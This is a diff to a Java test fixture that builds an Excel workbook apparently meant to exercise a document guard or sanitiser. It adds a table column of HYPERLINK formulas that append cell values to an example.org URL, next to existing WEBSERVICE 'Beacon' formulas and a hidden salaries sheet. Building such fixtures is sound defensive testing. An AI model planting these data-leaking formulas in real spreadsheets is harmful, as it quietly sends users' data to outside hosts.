@@ -8,10 +8,13 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
+import org.apache.poi.ss.SpreadsheetVersion;
+import org.apache.poi.ss.util.AreaReference;
 import org.apache.poi.xssf.usermodel.XSSFCellStyle;
 import org.apache.poi.xssf.usermodel.XSSFName;
 import org.apache.poi.xssf.usermodel.XSSFRow;
 import org.apache.poi.xssf.usermodel.XSSFSheet;
+import org.apache.poi.xssf.usermodel.XSSFTable;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 
 /** A workbook with something for every guard to watch over. */
@@ -28,7 +31,8 @@ final class GuardedBook {
 
   /**
    * {@code Data} (A1:E9, row 6 and column G hidden), {@code Notes} with formulas that reach
-   * outside, {@code Secret} hidden, {@code Locked} protected with one open cell.
+   * outside, {@code Secret} hidden, {@code Locked} protected with one open cell, {@code Links} with
+   * a table whose second column is computed and reaches outside.
    */
   OfficeFile plain() {
     return open(book(false));
@@ -65,6 +69,7 @@ final class GuardedBook {
       book.createSheet("Secret").createRow(0).createCell(0).setCellValue("salaries");
       book.setSheetHidden(2, true);
       locked(book, book.createSheet("Locked"));
+      links(book.createSheet("Links"));
       name(book, "Rate", "Data!$B$2");
       name(book, "Beacon", "_xlfn.WEBSERVICE(Notes!$A$1)");
       if (locked) {
@@ -100,6 +105,28 @@ final class GuardedBook {
     row.createCell(0).setCellValue("seen");
     row.createCell(1).setCellFormula("_xlfn.WEBSERVICE(C1)");
     row.createCell(3).setCellFormula("HYPERLINK(\"https://example.org/?\"&A1,\"there\")");
+  }
+
+  private static void links(XSSFSheet sheet) {
+    XSSFRow head = sheet.createRow(0);
+    head.createCell(0).setCellValue("Key");
+    head.createCell(1).setCellValue("Link");
+    for (int row = 1; row < 4; row++) {
+      XSSFRow cells = sheet.createRow(row);
+      cells.createCell(0).setCellValue("k" + row);
+      cells
+          .createCell(1)
+          .setCellFormula("HYPERLINK(\"https://example.org/?\"&A%d,\"open\")".formatted(row + 1));
+    }
+    XSSFTable table = sheet.createTable(new AreaReference("A1:B4", SpreadsheetVersion.EXCEL2007));
+    table.setName("Links");
+    table.setDisplayName("Links");
+    table
+        .getCTTable()
+        .getTableColumns()
+        .getTableColumnArray(1)
+        .addNewCalculatedColumnFormula()
+        .setStringValue("HYPERLINK(\"https://example.org/?\"&A2,\"open\")");
   }
 
   private static void locked(XSSFWorkbook book, XSSFSheet sheet) {
